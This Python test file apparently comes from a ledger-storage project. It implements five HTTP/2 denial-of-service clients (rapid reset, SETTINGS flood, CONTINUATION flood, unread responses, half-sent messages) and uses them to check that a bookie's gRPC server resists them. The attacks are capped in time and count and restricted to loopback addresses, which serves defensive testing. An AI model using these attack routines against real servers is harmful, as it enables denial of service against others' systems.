"""Hostile HTTP/2 clients of a bookie's gRPC port, each one attack that once knocked a bookie over.

Run as its own process, so that the attacker's CPU is not the legitimate writer's:
`python tests/hostile.py ATTACK HOST:PORT [--ledger N] [--seconds S]` prints one JSON line (what
the attack achieved: streams opened, bytes sent, the GOAWAY code it got) and exits. Every loop is
bounded in count and in time; the targets are loopback addresses only. The clients are raw frames
(tests/h2frames.py) or the `h2` library, which keeps to flow control as a careful
attacker does."""
from __future__ import annotations

import argparse
import asyncio
import json
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

import h2frames as http2
from pybk.proto import pb
from pybk.transport.ngh2_client import split_address

ADD = "/pybk.Bookie/Add"
READ = "/pybk.Bookie/Read"
ENHANCE_YOUR_CALM = 0xB


def headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "bookie"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(message: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(message)) + message


class Raw:
    """A connection written frame by frame; `watch()` reads what the server sends in the background,
    acknowledging its SETTINGS, and keeps the code of its GOAWAY."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self.reader, self.writer = reader, writer
        self.encoder = hpack.Encoder()
        self.goaway: int | None = None
        self.why = ""
        self.closed = False
        self.settled = asyncio.Event()   # the server's SETTINGS arrived and were acknowledged
        self._watch = asyncio.ensure_future(self._read())

    @classmethod
    async def connect(cls, address: str, settings: bytes = b"") -> "Raw":
        raw = cls(*await asyncio.open_connection(*split_address(address)))
        raw.writer.write(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, settings))
        return raw

    def open(self, stream: int, path: str, end: bool = False) -> bytes:
        flags = http2.END_HEADERS | (http2.END_STREAM if end else 0)
        return http2.frame(http2.HEADERS, flags, stream, self.encoder.encode(headers(path)))

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                hi, lo, ftype, flags, _ = struct.unpack(">BHBBI", head)
                payload = await self.reader.readexactly((hi << 16) | lo)
                if ftype == http2.SETTINGS and not flags & http2.ACK:
                    self.writer.write(http2.frame(http2.SETTINGS, http2.ACK, 0))
                    self.settled.set()
                elif ftype == http2.GOAWAY:
                    self.goaway = struct.unpack_from(">II", payload)[1]
                    self.why = bytes(payload[8:]).decode(errors="replace")
        except (asyncio.IncompleteReadError, ConnectionError):
            self.closed = True

    async def send(self, data: bytes) -> bool:
        """Write and drain; False once the server closed the connection."""
        if self.closed or self.writer.is_closing():
            return False
        self.writer.write(data)
        try:
            await self.writer.drain()
        except ConnectionError:
            self.closed = True
        await asyncio.sleep(0)  # drain() does not yield while the buffer is low: let the reader read
        return not self.closed

    def close(self) -> None:
        self._watch.cancel()
        self.writer.close()


async def half_sent_messages(address: str, streams: int = 300, seconds: float = 20, **_) -> dict:
    """Streams that each announce a message of `size` bytes (just under the bookie's limit) and
    send all of it but its last KiB, keeping to flow control, for as long as they get credit."""
    size = 8 * 1024 * 1024
    reader, writer = await asyncio.open_connection(*split_address(address))
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    ids = [1 + 2 * i for i in range(streams)]
    for s in ids:
        client.send_headers(s, headers(ADD))
        client.send_data(s, b"\x00" + struct.pack(">I", size))
    left = {s: size - 1024 for s in ids}
    writer.write(client.data_to_send())
    loop = asyncio.get_running_loop()
    deadline, sent, goaway = loop.time() + seconds, 0, None
    chunk = b"m" * 16_384
    while loop.time() < deadline and goaway is None:
        for s in ids:
            room = min(client.local_flow_control_window(s), left[s], len(chunk))
            if room > 0:
                client.send_data(s, chunk[:room])
                left[s] -= room
                sent += room
        writer.write(client.data_to_send())
        try:
            await writer.drain()
            data = await asyncio.wait_for(reader.read(1 << 20), 0.1)
        except asyncio.TimeoutError:
            continue
        except ConnectionError:
            break
        if not data:
            break
        for event in client.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = event.error_code
        writer.write(client.data_to_send())
    writer.close()
    return {"sent": sent, "goaway": goaway}


async def unread_answers(address: str, ledger: int, connections: int = 2, streams: int = 1000,
                         seconds: float = 20, window: int = 0, **_) -> dict:
    """Read streams for a ledger's entries on connections that give the bookie a stream window of
    `window` bytes and never read their socket: the answers can only pile up in the bookie."""
    request = grpc_message(pb.ReadRequest(ledger_id=ledger, first_entry=0, last_entry=1_000_000).SerializeToString())
    raws = [await Raw.connect(address, http2.SETTING.pack(http2.SETTINGS_INITIAL_WINDOW_SIZE, window))
            for _ in range(connections)]
    opened = 0
    for raw in raws:
        if window:
            raw._watch.cancel()  # never read the socket at all
        for i in range(streams):
            stream = 1 + 2 * i
            if not await raw.send(raw.open(stream, READ) + http2.frame(http2.DATA, http2.END_STREAM, stream, request)):
                break
            opened += 1
    await asyncio.sleep(seconds)
    goaways = [raw.goaway for raw in raws]
    for raw in raws:
        raw.close()
    return {"streams": opened, "goaway": next((g for g in goaways if g is not None), None)}


async def settings_flood(address: str, streams: int = 1000, frames: int = 150, seconds: float = 20, **_) -> dict:
    """SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each while `streams` calls are open."""
    raw = await Raw.connect(address)
    await raw.send(b"".join(raw.open(1 + 2 * i, ADD) for i in range(streams)))
    entries = b"".join(http2.SETTING.pack(http2.SETTINGS_INITIAL_WINDOW_SIZE, 65_535 + (i % 2)) for i in range(2730))
    sent, deadline = 0, time.monotonic() + seconds
    while sent < frames and time.monotonic() < deadline and await raw.send(http2.frame(http2.SETTINGS, 0, 0, entries)):
        sent += 1
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"frames": sent, "goaway": raw.goaway}


async def rapid_reset(address: str, streams: int = 50_000, seconds: float = 20, **_) -> dict:
    """Streams opened and reset at once (HEADERS then RST_STREAM CANCEL), as fast as it can."""
    raw = await Raw.connect(address)
    sent, deadline, stream = 0, time.monotonic() + seconds, 1
    while sent < streams and time.monotonic() < deadline and raw.goaway is None:
        batch = []
        for _ in range(100):
            batch.append(raw.open(stream, ADD) + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 0x8)))
            stream += 2
        if not await raw.send(b"".join(batch)):
            break
        sent += 100
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"streams": sent, "goaway": raw.goaway, "closed": raw.closed}


async def empty_continuations(address: str, frames: int = 1_000_000, seconds: float = 20, **_) -> dict:
    """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end."""
    raw = await Raw.connect(address)
    await asyncio.wait_for(raw.settled.wait(), seconds)  # no SETTINGS ACK inside the header block
    block = raw.encoder.encode(headers(ADD))
    await raw.send(http2.frame(http2.HEADERS, 0, 1, block))
    empty = http2.frame(http2.CONTINUATION, 0, 1, b"") * 1000
    sent, deadline = 0, time.monotonic() + seconds
    while sent < frames and time.monotonic() < deadline and raw.goaway is None and await raw.send(empty):
        sent += 1000
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"frames": sent, "goaway": raw.goaway, "why": raw.why}


async def _wait_goaway(raw: Raw, deadline: float) -> None:
    while raw.goaway is None and not raw.closed and time.monotonic() < deadline:
        await asyncio.sleep(0.05)


ATTACKS = {f.__name__: f for f in (half_sent_messages, unread_answers, settings_flood, rapid_reset,
                                   empty_continuations)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("--ledger", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--window", type=int, default=0)
    args = parser.parse_args()
    host = split_address(args.address)[0]
    if not (host.startswith("127.") or host in ("localhost", "::1")):
        sys.exit(f"{args.address}: attacks run against loopback addresses only")
    kwargs = {"ledger": args.ledger, "seconds": args.seconds}
    if args.attack == "unread_answers":
        kwargs["window"] = args.window
    print(json.dumps(asyncio.run(ATTACKS[args.attack](args.address, **kwargs))))


if __name__ == "__main__":
    main()
